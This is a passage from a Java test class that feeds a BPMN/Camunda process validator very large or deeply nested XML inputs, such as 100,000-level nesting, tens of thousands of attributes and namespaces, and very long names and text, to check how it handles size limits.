        bulky("very deep", document("", "", "<b:x>".repeat(100_000) + "</b:x>".repeat(100_000)));
        bulky("a large comment", process(service("task", "", ""), "task") + "<!--" + " ".repeat(1 << 20) + "-->");
        bulky("exactly too large", process(service("task", "", ""), "task") + " ".repeat(1 << 20));
        bulky(
                "many tasks",
                document(
                        "",
                        "",
                        IntStream.range(0, 4000)
                                .mapToObj(i -> "<b:task id=\"t" + i + "\" name=\"t\"/>")
                                .collect(Collectors.joining())));
        bulky(
                "many flows",
                document(
                        "",
                        "",
                        start()
                                + IntStream.range(0, 8000)
                                        .mapToObj(i -> "<b:sequenceFlow id=\"f" + i
                                                + "\" sourceRef=\"start\" targetRef=\"start\"/>")
                                        .collect(Collectors.joining())));
        bulky(
                "many associations and notes",
                document(
                        "",
                        "",
                        IntStream.range(0, 5000)
                                .mapToObj(i -> "<b:textAnnotation id=\"n" + i + "\"/><b:association id=\"a" + i
                                        + "\" sourceRef=\"n" + i + "\" targetRef=\"n0\"/>")
                                .collect(Collectors.joining())));
        bulky("many empty elements", document("", "", "<b:x/>".repeat(150_000)));
        bulky(
                "many attributes",
                document(
                        "",
                        "",
                        "<b:task id=\"t\" "
                                + IntStream.range(0, 60_000)
                                        .mapToObj(i -> "a" + i + "=\"\" ")
                                        .collect(Collectors.joining())
                                + "/>"));
        bulky(
                "many namespaces",
                document(
                        "",
                        "",
                        "<b:task id=\"t\" "
                                + IntStream.range(0, 30_000)
                                        .mapToObj(i -> "xmlns:a" + i + "=\"u\" ")
                                        .collect(Collectors.joining())
                                + "/>"));
        bulky("a long name", document("", "", "<b:" + "x".repeat(500_000) + "/>"));
        bulky("a long id", process(service("t".repeat(300_000), "", ""), "t".repeat(300_000)));
        bulky(
                "a long text",
                process(service("task", "", "<b:documentation>" + "x".repeat(900_000) + "</b:documentation>"), "task"));
        bulky(
                "many properties of one name",
                process(
                        service("task", "", "")
                                .replace(
                                        "<camunda:properties>",
                                        "<camunda:properties>"
                                                + ("<camunda:property name=\"\" value=\"" + attribute(sing) + "\"/>")
                                                        .repeat(4000)),
                        "task"));
        bulky(
                "many findings",
                document(
                        "",
                        "",
                        IntStream.range(0, 3000)
                                .mapToObj(i -> "<b:scriptTask id=\"s" + i + "\" name=\"" + "x".repeat(100)
                                        + "\"><b:script/></b:scriptTask>")
                                .collect(Collectors.joining())));
    }

    private String nested(String type, int levels, String loop, String inner) {
        String content = inner;
        for (int i = 1; i <= levels; i++) {
            String body = i == 1 ? "task" : "s" + (i - 1);
            content = node(
                    type,
                    "s" + i,
                    "",
                    loop
                            + start().replace("start", "b" + i)
                            + content
                            + end().replace("id=\"end\"", "id=\"e" + i + "\"")
                            + flow("b" + i, body)
                            + flow(body, "e" + i));
        }
        return content;
    }
}
